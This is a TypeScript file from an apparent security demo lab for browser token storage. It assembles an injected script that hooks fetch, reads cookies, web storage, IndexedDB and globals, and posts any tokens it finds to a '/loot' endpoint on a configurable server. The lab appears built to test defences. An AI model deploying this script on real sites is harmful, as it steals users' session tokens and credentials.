import { type Attack, slugOf } from "../../../tests/attacks/attack.js";
import { hookFetch } from "../../../tests/attacks/attacks/hook-the-network.js";
import {
  readCookies,
  readIndexedDb,
  readLocalStorage,
  readSessionStorage,
  walkGlobals,
} from "../../../tests/attacks/attacks/read-the-page.js";
import { proxyRequests } from "../../../tests/attacks/attacks/requests-to-the-worker.js";
import { framedSignIn, ownFrame, vaultStorage } from "../../../tests/attacks/attacks/vault-origin.js";
import { authorizationUrl, entry } from "../../../tests/attacks/injected.js";
import { candidatesIn } from "../../../tests/attacks/secrets.js";

/** What the lab's page injects: the attack lab's attacks that need only a page. */
export const ATTACKS: readonly Attack[] = [
  hookFetch,
  readLocalStorage,
  readSessionStorage,
  readCookies,
  readIndexedDb,
  walkGlobals,
  vaultStorage,
  ownFrame,
  framedSignIn,
  // Last, because it triggers the hooks.
  proxyRequests,
];

/** The script that the lab's page shows and injects, made of the attacks' sources. */
export function labPayload(): string {
  const hooks = ATTACKS.flatMap(({ name, hook }) => (hook ? [entry(name, hook)] : []));
  const payloads = ATTACKS.flatMap(({ name, payload }) => (payload ? [entry(name, payload)] : []));
  const forVaultOrigins = ATTACKS.filter(({ target }) => target === "vault origin").map(({ name }) => name);
  return `// The script that the lab injects, the same for every token storage.
// It represents a script that came in through a bug in the page or
// inside a package. The server is the demo's own, on this machine.

const server = new URL(import.meta.url).searchParams.get("to");

// Saved, because the hooks below replace it.
const { fetch } = window;

// What the attacker knows of the app, such as its client ID.
const facts = await (await fetch(server + "/facts")).json();

let sent = Promise.resolve();

/** Sends one request after the other, so that they arrive in order. */
function send(path, body) {
  sent = sent.then(() => fetch(server + path, { method: "POST", body }));
}

/** What the attacks use. */
function toolsOf(attack) {
  return {
    ...facts,
    attackerUrl: \`\${server}/\${slugOf(attack)}\`,
    authorizationUrl: (parameters) => authorizationUrl(facts, slugOf(attack), parameters),
    pause: (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds)),
    done: (request) =>
      new Promise((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      }),
    steal(...values) {
      for (const value of values) {
        const text = typeof value === "string" ? value : (JSON.stringify(value) ?? "");
        for (const secret of candidatesIn(text)) send("/loot", JSON.stringify([[attack, secret]]));
      }
    },
  };
}

${source(slugOf)}

/** A sign-in of the attacker's own. */
${source(authorizationUrl)}

/** JWTs, authorization codes, and values as long as a refresh token. */
${source(candidatesIn)}

// Hooks wait for the app to send a token that is in no storage.
const hooks = {
${members(hooks)}
};

const payloads = {
${members(payloads)}
};

// There is nothing to attack with these if the vault has no origin of its own.
const forVaultOrigins = ${JSON.stringify(forVaultOrigins, null, 2)};

const played = [];

async function play(attack, run) {
  const before = new Set(document.body.children);
  try {
    await run(toolsOf(attack));
    played.push({ attack });
  } catch (error) {
    played.push({ attack, problem: String(error) });
  }
  for (const element of [...document.body.children]) if (!before.has(element)) element.remove();
}

for (const [attack, hook] of Object.entries(hooks)) await play(attack, hook);
for (const [attack, payload] of Object.entries(payloads)) {
  if (facts.vaultUrl || !forVaultOrigins.includes(attack)) await play(attack, payload);
}
send("/end", JSON.stringify(played));
`;
}

function members(entries: string[]): string {
  return entries.map((text) => `${tidy(text).replace(/^(?=.)/gm, "  ")},`).join("\n\n");
}

function source(named: (...args: never[]) => unknown): string {
  return tidy(named.toString());
}

/** The build's output, indented like the rest. */
function tidy(text: string): string {
  const depth = /^\t*/.exec(text.slice(text.lastIndexOf("\n") + 1))?.[0] ?? "";
  return text
    .split("\n")
    .map((line) => (line.startsWith(depth) ? line.slice(depth.length) : line))
    .join("\n")
    .replaceAll("\t", "  ")
    .replaceAll("/* @__PURE__ */ ", "");
}
